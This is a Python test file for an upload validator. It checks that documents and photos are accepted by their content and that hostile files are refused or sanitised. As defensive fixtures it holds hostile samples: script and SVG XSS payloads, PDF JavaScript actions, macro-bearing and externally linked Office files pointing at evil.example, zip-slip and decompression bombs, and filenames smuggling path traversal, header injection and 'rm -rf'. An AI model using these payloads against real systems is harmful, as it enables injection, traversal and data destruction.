"""What is taken is what it says it is; what is refused is refused with a sentence; nothing hidden comes through."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Mapping

import pytest
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

from app.documents import archives, content
from app.documents.content import Upload, check, clean_name
from app.domain.errors import InvalidInputError

PDF = b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
SECRET = b"51.1282N 71.4304E"


def photo(kind: str = "JPEG", size: tuple[int, int] = (60, 40), *, place: bool = False, turned: bool = False) -> bytes:
    """A picture; with the place where it was taken in it, or lying on its side."""
    picture = Image.new("RGB", size, "teal")
    exif = Image.Exif()
    if place:
        exif[0x010E] = SECRET.decode()
    if turned:
        exif[0x0112] = 6
    made = io.BytesIO()
    picture.save(made, kind, exif=exif, **({"comment": SECRET} if place and kind == "JPEG" else {}))
    return made.getvalue()


def office(members: Mapping[str, bytes], *, comment: bytes = b"") -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
        archive.comment = comment
    return made.getvalue()


def types_of(media_type: str, more: str = "") -> bytes:
    return f'<Types><Override ContentType="{media_type}.main+xml"/>{more}</Types>'.encode()


WORD = {"[Content_Types].xml": types_of(archives.DOCX), "word/document.xml": b"<w:document/>"}
SHEET = {"[Content_Types].xml": types_of(archives.XLSX), "xl/workbook.xml": b"<workbook/>"}
TEXT = {"mimetype": archives.ODT.encode(), "content.xml": b"<office:document/>"}
TABLE = {"mimetype": archives.ODS.encode(), "content.xml": b"<office:document/>"}


def packed_pdf(objects: bytes) -> bytes:
    """A PDF whose objects stand packed in a stream, as office programs write them."""
    packed = zlib.compress(objects)
    head = b"%%PDF-1.7\n1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(packed)
    return head + packed + b"\nendstream\nendobj\n%%EOF\n"


TAKEN = [
    ("оралған.pdf", packed_pdf(b"1 0 <</Type/Catalog>>"), "application/pdf", "оралған.pdf"),
    ("хаттама.pdf", PDF, "application/pdf", "хаттама.pdf"),
    ("Хат (2).DOCX", office(WORD), archives.DOCX, "Хат (2).docx"),
    ("смета.xlsx", office(SHEET), archives.XLSX, "смета.xlsx"),
    ("мәтін.odt", office(TEXT), archives.ODT, "мәтін.odt"),
    ("кесте.ods", office(TABLE), archives.ODS, "кесте.ods"),
    ("тізім.csv", "ауыл;сома\nАқсу;12".encode(), "text/csv", "тізім.csv"),
    ("ескі.txt", "Қазақша мәтін".encode("kz1048"), "text/plain", "ескі.txt"),
    ("юникод.txt", "Қазақша".encode("utf-16"), "text/plain", "юникод.txt"),
    ("сурет.jpeg", photo(), "image/jpeg", "сурет.jpg"),
    ("сурет.png", photo("PNG"), "image/png", "сурет.png"),
    ("сурет.webp", photo("WEBP"), "image/webp", "сурет.webp"),
    ("shell.pdf.exe", PDF, "application/pdf", "shell.pdf.pdf"),
    ("сурет.html", photo(), "image/jpeg", "сурет.jpg"),
]
BOMB = {**WORD, "word/media/a.bin": b"\0" * (archives.MOST_UNPACKED + 1)}
RELATION = '<Relationship Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
SVG = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
REFUSED = [
    ("бос.pdf", b"", "empty"),
    ("үлкен.pdf", PDF + b"x" * content.MOST_BYTES, "large"),
    ("бет.html", b"<html><script>alert(1)</script>", "web"),
    ("сурет.svg", SVG, "web"),
    ("сурет.txt", SVG, "web"),
    ("кесте.csv", b"  \n<!DOCTYPE html><p>", "web"),
    ("ашық.txt", b"GIF89a\x01\0/*", "kind"),
    ("run.exe", b"MZ\x90\0", "kind"),
    ("сурет.jpg", b"GIF89a....", "kind"),
    ("сурет.jpg", photo()[:200], "broken"),
    ("сурет.png", photo("PNG")[:-30], "broken"),
    ("жартысы.pdf", PDF[:20], "broken"),
    ("екеу.pdf", PDF + office(WORD) + b"%%EOF", "two_in_one"),
    ("іске.pdf", b"%PDF-1.7 /OpenAction<</S/JavaScript/JS(app.alert(1))>> %%EOF", "runs"),
    ("жасырын.pdf", b"%PDF-1.7 <</S/#4A#61va#53#63ript/JS(app.alert(1))>> %%EOF", "runs"),
    ("оралған.pdf", packed_pdf(b"1 0 <</S /JavaScript /JS (app.alert(1))>>"), "runs"),
    ("бомба.pdf", packed_pdf(b" " * (content.MOST_PACKED + 1)), "bomb"),
    ("zip.docx", office({"a.txt": b"a"}), "kind"),
    ("java.docx", office({"META-INF/MANIFEST.MF": b"Main-Class: X"}), "kind"),
    ("бомба.docx", office(BOMB), "bomb"),
    ("көп.docx", office({**WORD, **{f"word/{n}.xml": b"" for n in range(archives.MOST_MEMBERS)}}), "bomb"),
    ("макрос.docx", office({**WORD, "word/vbaProject.bin": b"x"}), "runs"),
    ("макрос.docm", office({**WORD, "[Content_Types].xml": b"macroEnabled.main+xml"}), "runs"),
    ("макрос.odt", office({**TEXT, "Basic/Standard/M.xml": b"x"}), "runs"),
    ("сырттан.docx", office({**WORD, "word/_rels/settings.xml.rels": RELATION.encode()}), "runs"),
    ("күлкі.docx", office({**WORD, "word/x.xml": b"<!DOCTYPE a [<!ENTITY b 'c'>]>"}), "runs"),
    ("күлкі16.docx", office({**WORD, "word/x.xml": "<!DOCTYPE a>".encode("utf-16-le")}), "runs"),
    ("жоғары.docx", office({**WORD, "../../etc/cron": b"x"}), "broken"),
    ("алды.docx", b"PK\3\4" + b"x" * 40 + office(WORD), "two_in_one"),
    ("соңы.docx", office(WORD, comment=b"<script>"), "two_in_one"),
    ("жарты.docx", office(WORD)[:-40], "broken"),
]


@pytest.mark.parametrize(("name", "data", "media_type", "kept_as"), TAKEN, ids=[row[0] for row in TAKEN])
def test_documents_and_photos_are_taken_by_their_content(name: str, data: bytes, media_type: str, kept_as: str) -> None:
    checked = check(Upload(name, data))
    assert (checked.media_type, checked.name) == (media_type, kept_as)
    if media_type.startswith("text/"):
        assert "Қазақша" in checked.data.decode() or ";" in checked.data.decode()


@pytest.mark.parametrize(("name", "data", "reason"), REFUSED, ids=[row[0] for row in REFUSED])
def test_what_is_no_document_is_refused_with_its_reason(name: str, data: bytes, reason: str) -> None:
    with pytest.raises(InvalidInputError) as refused:
        check(Upload(name, data), "files")
    (problem,) = refused.value.problems
    assert (problem.message_key, problem.where) == (f"documents.error.{reason}", "files")


def test_a_member_that_lies_about_its_size_is_refused() -> None:
    data = bytearray(office({**WORD, "word/big.xml": b"\0" * 500_000}))
    true_size = (500_000).to_bytes(4, "little")
    assert data.count(true_size) == 2
    with pytest.raises(InvalidInputError, match="broken"):
        check(Upload("өтірік.docx", bytes(data.replace(true_size, (10).to_bytes(4, "little")))))


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
def test_a_photo_keeps_nothing_but_its_picture(kind: str) -> None:
    brought = photo(kind, place=True)
    assert SECRET in brought
    checked = check(Upload("сурет.jpg", brought + b"<script>alert(1)</script>" + office(WORD)))
    assert SECRET not in checked.data
    assert b"<script>" not in checked.data
    assert b"PK\x05\x06" not in checked.data
    with Image.open(io.BytesIO(checked.data)) as kept:
        assert dict(kept.getexif()) == {}


def test_a_large_photo_is_made_smaller_and_a_turned_one_stands_upright() -> None:
    checked = check(Upload("сурет.jpg", photo(size=(5000, 3000), turned=True)))
    assert (checked.width, checked.height) == (1200, 2000)
    small = check(Upload("сурет.jpg", photo(size=(60, 40))))
    assert (small.width, small.height) == (60, 40)


def test_a_picture_of_too_many_pixels_is_refused_unread() -> None:
    header = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + (30_000).to_bytes(4, "big") * 2 + b"\x08\x02\0\0\0"
    with pytest.raises(InvalidInputError, match=r"documents\.error\.(pixels|broken)"):
        check(Upload("бомба.png", header))
    made = io.BytesIO()
    Image.new("1", (9000, 9000)).save(made, "PNG")
    with pytest.raises(InvalidInputError, match="pixels"):
        check(Upload("бомба.png", made.getvalue()))


def test_what_cannot_be_read_smaller_than_it_is_may_hold_fewer_pixels() -> None:
    # 25 million pixels of one colour are a few kilobytes of PNG or WebP, and hundreds of megabytes of memory
    bombs = {ending: io.BytesIO() for ending in ("PNG", "WEBP", "JPEG")}
    for ending, made in bombs.items():
        Image.new("RGB", (5000, 5000)).save(made, ending)
    for ending in ("PNG", "WEBP"):
        with pytest.raises(InvalidInputError, match="pixels"):
            check(Upload("бомба", bombs[ending].getvalue()))
    assert check(Upload("сурет", bombs["JPEG"].getvalue())).width == 2000


@pytest.mark.parametrize(
    ("name", "kept_as"),
    [
        ("../../etc/passwd", "passwd.pdf"),
        ("C:\\Users\\a\\хат.pdf", "хат.pdf"),
        ("хат\u202efdp.exe", "хат fdp.pdf"),
        ("a\r\nSet-Cookie: x.pdf", "a Set-Cookie x.pdf"),
        ('<img src=x onerror="a">.pdf', "img src=x onerror= a.pdf"),
        ("...", "document.pdf"),
        ("", "document.pdf"),
        ("н" * 300 + ".pdf", "н" * 116 + ".pdf"),
        ("com1;rm -rf.pdf", "com1 rm -rf.pdf"),
    ],
)
def test_hostile_names_become_names(name: str, kept_as: str) -> None:
    assert clean_name(name, "pdf") == kept_as


@given(st.text(max_size=300))
def test_any_name_becomes_a_name_that_stays_itself(name: str) -> None:
    clean = clean_name(name, "pdf")
    assert 1 <= len(clean) <= content.LONGEST_NAME
    assert clean.endswith(".pdf")
    assert clean_name(clean, "pdf") == clean
    assert not set(clean) & set('/\\<>:"|?*\n\r\0')


@given(st.binary(max_size=400), st.sampled_from(["a.pdf", "a.docx", "a.jpg", "a.txt", "a.csv", "a"]))
def test_no_bytes_are_a_fault(data: bytes, name: str) -> None:
    for start in (b"", b"%PDF-", b"PK\x03\x04", b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n", b"RIFF\0\0\0\0WEBP"):
        try:
            checked = check(Upload(name, start + data))
        except InvalidInputError:
            continue
        assert checked.media_type in content.EXTENSIONS
